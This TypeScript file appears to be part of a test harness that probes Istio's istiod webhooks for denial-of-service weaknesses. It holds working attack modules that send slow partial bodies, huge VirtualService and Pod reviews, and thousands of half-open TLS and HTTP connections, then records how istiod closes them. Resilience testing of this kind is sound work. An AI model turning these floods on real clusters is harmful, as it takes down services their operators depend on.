import { connect as connectTcp, type Socket } from "node:net";
import { Readable } from "node:stream";
import { setTimeout as wait } from "node:timers/promises";
import { connect as connectTls, type TLSSocket } from "node:tls";
import type { Attack } from "../../attack.js";
import { reviewOf, virtualService, type WebhookAddress, webhookName } from "../../target/webhook-caller.js";
import type { AttackedWebhooks } from "../../target/webhook-target.js";
import { Outcomes } from "../connections/stranger.js";
import { scaled } from "../scaled.js";

const mebibyte = 2 ** 20;
const chunkBytes = 65_536;
const chunksPerMebibyte = mebibyte / chunkBytes;
const holdMs = 15_000;
const smallHoldMs = 3000;
/** Bytes that istiod accepts in a review: more than an object of etcd with its former version. */
const reviewBytes = 6 * mebibyte;

function connectWebhook({ port, root, localAddress }: WebhookAddress): TLSSocket {
  const socket = connectTcp({ host: "127.0.0.1", port, localAddress });
  socket.on("error", () => undefined);
  return connectTls({ socket, ca: root, servername: webhookName }).on("error", () => undefined);
}

const head = (bytes: number, path = "/validate"): string =>
  `POST ${path} HTTP/1.1\r\nhost: ${webhookName}\r\ncontent-type: application/json\r\ncontent-length: ${bytes}\r\n\r\n`;

/**
 * Sends a request as fast as it is read, and records the status of its answer, or that the connection was closed.
 */
function send(address: WebhookAddress, parts: Iterable<string | Uint8Array>, outcomes: Outcomes): TLSSocket {
  const socket = connectWebhook(address);
  const closed = (): void => outcomes.add("closed");
  socket.once("close", closed).once("data", (bytes: Buffer) => {
    socket.off("close", closed);
    outcomes.add(`status ${bytes.toString("latin1").split(" ", 2)[1]}`);
  });
  socket.once("secureConnect", () => Readable.from(parts).pipe(socket, { end: false }));
  return socket;
}

/** Keeps connections open, at full size until istiod's timeouts have passed. Returns how they have ended. */
async function hold(sockets: readonly Socket[], outcomes: Outcomes, scale: number): Promise<string> {
  await wait(scale < 1 ? smallHoldMs : holdMs);
  const ended = outcomes.toString();
  for (const socket of sockets) socket.destroy();
  return ended;
}

const bodies: Attack<AttackedWebhooks> = {
  name: "webhook-bodies",
  description: "300 callers of the webhooks send 5 MiB of a review of 6 MiB, and wait",
  async run({ webhooks }, scale) {
    const count = scaled(300, scale);
    const outcomes = new Outcomes();
    const parts = [head(reviewBytes), ...Array<Buffer>(5 * chunksPerMebibyte).fill(Buffer.alloc(chunkBytes, " "))];
    const sockets = Array.from({ length: count }, () => send(webhooks, parts, outcomes));
    return `${count} reviews; ended by istiod: ${await hold(sockets, outcomes, scale)}`;
  },
};

/** Returns a review of about 4 MB: an object with very many small members, which is the slowest to read. */
function largeReview(): string {
  const routes = Array.from({ length: 100_000 }, (_, at) => ({ name: `r${at}`, match: [{ port: at % 65_536 }] }));
  return reviewOf(virtualService(routes));
}

const reviews: Attack<AttackedWebhooks> = {
  name: "webhook-reviews",
  description: "40 callers of the webhooks send a review of a VirtualService with 100,000 routes at the same time",
  async run({ webhooks }, scale) {
    const count = scaled(40, scale);
    const outcomes = new Outcomes();
    const review = Buffer.from(largeReview());
    const parts: (string | Uint8Array)[] = [head(review.length)];
    for (let at = 0; at < review.length; at += chunkBytes) parts.push(review.subarray(at, at + chunkBytes));
    const sockets = Array.from({ length: count }, () => send(webhooks, parts, outcomes));
    return `${count} reviews of ${review.length} bytes; answers: ${await hold(sockets, outcomes, scale)}`;
  },
};

/** Returns the review of a Pod of about 430 KB, with values of the kinds that cost the most for their size. */
function largePod(): string {
  const userVolume = Object.fromEntries(Array.from({ length: 8000 }, (_, at) => [`v${at}`, { emptyDir: {} }]));
  const ports = Array.from({ length: 9000 }, (_, at) => ({ containerPort: at + 1 }));
  return reviewOf({
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name: "large", annotations: { "sidecar.istio.io/userVolume": JSON.stringify(userVolume) } },
    spec: { containers: [{ name: "a", ports }] },
  });
}

const pods: Attack<AttackedWebhooks> = {
  name: "webhook-pods",
  description: "40 callers of the webhooks send a Pod with 8,000 volumes and 9,000 ports at the same time",
  async run({ webhooks }, scale) {
    const count = scaled(40, scale);
    const outcomes = new Outcomes();
    const review = largePod();
    const parts = [head(review.length, "/inject"), review];
    const sockets = Array.from({ length: count }, () => send(webhooks, parts, outcomes));
    return `${count} reviews of ${review.length} bytes; answers: ${await hold(sockets, outcomes, scale)}`;
  },
};

const connections: Attack<AttackedWebhooks> = {
  name: "webhook-connections",
  description:
    "3,000 connections to the webhooks: a third is silent, a third leaves its handshake, a third its request",
  async run({ webhooks }, scale) {
    const count = scaled(1000, scale);
    const { port, localAddress } = webhooks;
    const outcomes = new Outcomes();
    const sockets: Socket[] = [];
    const open = (): Socket => connectTcp({ host: "127.0.0.1", port, localAddress }).on("error", () => undefined);
    // The header of a record and of a ClientHello whose end is never sent.
    const begin = Buffer.from("16030102000100", "hex");
    for (let at = 0; at < count; at++) {
      const silent = open().once("close", () => outcomes.add("silent closed"));
      const halfOpen = open().once("close", () => outcomes.add("half-open closed"));
      halfOpen.write(begin);
      sockets.push(silent, halfOpen, send(webhooks, ["POST /validate HTTP/1.1\r\n"], outcomes));
      if (at % 50 === 0) await wait(20);
    }
    return `${3 * count} connections; ended by istiod: ${await hold(sockets, outcomes, scale)}`;
  },
};

/** Attacks on the webhooks. */
export const webhookAttacks: readonly Attack<AttackedWebhooks>[] = [bodies, reviews, pods, connections];
